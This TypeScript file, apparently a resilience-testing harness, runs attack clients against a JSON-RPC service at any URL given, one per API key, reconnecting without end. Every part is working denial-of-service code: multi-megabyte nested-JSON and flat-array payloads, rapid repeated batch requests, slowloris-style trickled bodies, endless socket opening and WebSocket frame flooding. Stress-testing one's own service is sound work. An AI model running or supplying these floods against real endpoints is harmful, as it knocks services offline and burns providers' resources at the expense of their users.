import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';

import { WebSocket } from 'ws';

/*
 * Clients that attack the service, run as a separate process until it is killed: `<attack> <url> <file of keys, one per
 * line>`. Each key is one client. A client whose connection is closed opens another.
 */

const [attack, address, file] = process.argv.slice(2) as [string, string, string];
const url = new URL(address);
const keys = readFileSync(file, 'utf8').split('\n');

const LARGE = 5 * 1024 * 1024 - 1024;
const request = (method: string, params: string) => `{"jsonrpc":"2.0","id":1,"method":"${method}","params":${params}}`;
const LOOK_UP = request('eth_getUncleByBlockNumberAndIndex', '["0x29c","0x0"]');

const headOf = (key: string, length: number) =>
  `POST /v3/${key} HTTP/1.1\r\nhost: ${url.host}\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;

/** Opens a connection, and another one a little after it is closed. */
function keepOpen(start: (socket: Socket) => void): void {
  const socket = connect(Number(url.port), url.hostname, () => {
    start(socket);
  });
  socket.on('error', () => undefined);
  socket.on('close', () =>
    setTimeout(() => {
      keepOpen(start);
    }, 10),
  );
}

/** Sends the same request again as soon as it is answered. */
function repeat(body: string): (key: string) => void {
  return (key) => {
    const whole = Buffer.from(headOf(key, body.length) + body);
    keepOpen((socket) => {
      socket.on('data', () => socket.write(whole));
      socket.write(whole);
    });
  };
}

/** Announces a body and sends a byte of it from time to time, on several connections. */
function slowBodies(key: string): void {
  for (let count = 0; count < 20; count++)
    keepOpen((socket) => {
      socket.write(headOf(key, 100_000));
      const timer = setInterval(() => socket.write(' '), 50);
      socket.on('close', () => {
        clearInterval(timer);
      });
    });
}

/** Opens connections without end and sends nothing. */
function openSockets(): void {
  setInterval(() => {
    const socket = connect(Number(url.port), url.hostname);
    socket.on('error', () => undefined);
  }, 10);
}

/** Sends frames as fast as the connection takes them. */
function floodFrames(key: string): void {
  const socket = new WebSocket(`ws://${url.host}/ws/v3/${key}`, { perMessageDeflate: false });
  const pump = () => {
    if (socket.readyState !== WebSocket.OPEN) return;
    for (let count = 0; count < 100 && socket.bufferedAmount < 1 << 20; count++) socket.send(LOOK_UP);
    setTimeout(pump, 1);
  };
  socket.on('open', pump);
  socket.on('error', () => undefined);
  socket.on('close', () =>
    setTimeout(() => {
      floodFrames(key);
    }, 10),
  );
}

const ATTACKS: Readonly<Record<string, (key: string) => void>> = {
  'nested JSON': repeat(request('eth_call', '['.repeat(LARGE / 2) + ']'.repeat(LARGE / 2))),
  'flat array': repeat(`[${'0,'.repeat(LARGE / 2)}0]`),
  'huge batches': repeat(`[${Array.from({ length: 100 }, () => LOOK_UP).join(',')}]`),
  'look-ups': repeat(LOOK_UP),
  'slow bodies': slowBodies,
  'endless sockets': openSockets,
  'WebSocket frames': floodFrames,
};

const start = ATTACKS[attack];
if (!start) throw new Error(`unknown attack: ${attack}`);
for (const key of keys) start(key);
